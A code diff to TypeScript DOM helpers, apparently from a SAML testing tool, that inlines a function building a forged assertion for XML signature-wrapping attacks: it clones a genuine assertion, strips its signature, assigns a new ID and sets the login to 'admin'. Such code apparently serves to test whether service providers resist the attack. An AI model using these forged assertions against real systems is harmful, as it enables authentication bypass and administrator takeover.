@@ -1,5 +1,5 @@
 // DOM helpers for surgery on genuine Responses (@xmldom/xmldom): parse/serialize, navigation, the forged assertion.
-import { forgedAssertion, NS, setAssertionIdentity } from '@samlbridge/protocol';
+import { NS } from '@samlbridge/protocol';
 import { DOMParser, type Document, type Element, XMLSerializer } from '@xmldom/xmldom';
 
 const parser = () =>
@@ -24,12 +24,25 @@ export const assertionOf = (doc: Document) => child(root(doc), NS.assertion, 'As
 export const signatureOf = (el: Element) => child(el, NS.ds, 'Signature');
 export const cloneEl = (el: Element) => el.cloneNode(true) as Element;
 
-/** The forged assertion every wrapping attack wants accepted: same shape, another identity, a new ID (protocol's signature-wrapping.ts). */
-export function evilAssertion(original: Element, id = '_evil'): Element {
-  return forgedAssertion(original, id, 'admin');
+/** Signs the assertion in as `login`: its Subject's NameID and every `Username` attribute value. */
+export function setIdentity(assertion: Element, login: string): void {
+  const nameId = child(child(assertion, NS.assertion, 'Subject') ?? assertion, NS.assertion, 'NameID');
+  if (nameId) nameId.textContent = login;
+  for (const attribute of children(child(assertion, NS.assertion, 'AttributeStatement') ?? assertion, NS.assertion, 'Attribute')) {
+    if (attribute.getAttribute('Name') !== 'Username') continue;
+    for (const value of children(attribute, NS.assertion, 'AttributeValue')) value.textContent = login;
+  }
 }
 
-export const setIdentity = setAssertionIdentity;
+/** The forged assertion every wrapping attack wants accepted: same shape, unsigned, a new ID, signed in as admin. */
+export function evilAssertion(original: Element, id = '_evil'): Element {
+  const forged = cloneEl(original);
+  const signature = signatureOf(forged);
+  if (signature) forged.removeChild(signature);
+  forged.setAttribute('ID', id);
+  setIdentity(forged, 'admin');
+  return forged;
+}
 
 export function insertAfter(parent: Element, node: Element, ref: Element): void {
   parent.insertBefore(node, ref.nextSibling);
